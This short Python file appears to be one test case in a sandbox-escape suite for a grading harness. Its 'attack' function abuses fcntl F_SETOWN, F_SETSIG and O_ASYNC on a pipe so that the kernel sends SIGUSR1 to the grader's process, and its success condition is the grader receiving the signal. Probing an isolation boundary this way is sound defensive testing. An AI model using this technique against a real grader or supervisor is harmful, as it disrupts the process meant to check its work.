"""Success: the kernel sends the grader a signal, as the owner of a pipe of the student's."""

import fcntl
import os
import signal

from kit import tries

F_SETSIG = 10


def attack(a):
    def own(fd, other):
        fcntl.fcntl(fd, fcntl.F_SETOWN, a["grader_pid"])
        fcntl.fcntl(fd, F_SETSIG, int(signal.SIGUSR1))
        fcntl.fcntl(fd, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(other, b"x")

    return tries(lambda: own(*os.pipe()))
